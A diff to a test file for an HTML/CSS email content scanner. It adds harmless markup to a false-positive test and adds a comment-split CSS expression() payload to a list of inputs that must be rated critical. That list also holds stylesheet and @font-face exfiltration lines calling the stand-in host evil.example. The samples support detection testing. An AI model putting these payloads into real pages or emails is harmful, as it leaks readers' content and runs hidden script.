@@ -611,6 +611,8 @@ describe('everyday content a false-positive hunt found blocked', () => {
     const email = [
       '<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="X-UA-Compatible" content="IE=edge">',
       '<meta name="viewport" content="width=device-width, initial-scale=1">',
+      '<meta http-equiv="X-UA-Compatible" content="IE=edge,chrome=1">',
+      '<style>/* reset */ body{margin:0}</style>',
       '<link href="https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap" rel="stylesheet">',
       '<style>@media only screen and (max-width:600px){.col{width:100%!important;}}</style></head>',
       '<body><!--[if mso]><table><tr><td><![endif]--><p>Your receipt</p><!--[if mso]></td></tr></table><![endif]-->',
@@ -630,6 +632,7 @@ describe('everyday content a false-positive hunt found blocked', () => {
       '<link rel=stylesheet data-href="https://fonts.googleapis.com/" href="https://evil.example/x.css">',
       '<link rel=stylesheet href=https://evil.example/x.css href=https://fonts.googleapis.com/css>',
       '<style>@font-face{src:url(//evil.example/?A);unicode-range:U+0041}</style>',
+      '<style>a{width:expr/**/ession(print())}</style>',
     ])
       assert.equal(worst(v), 'critical', v);
   });
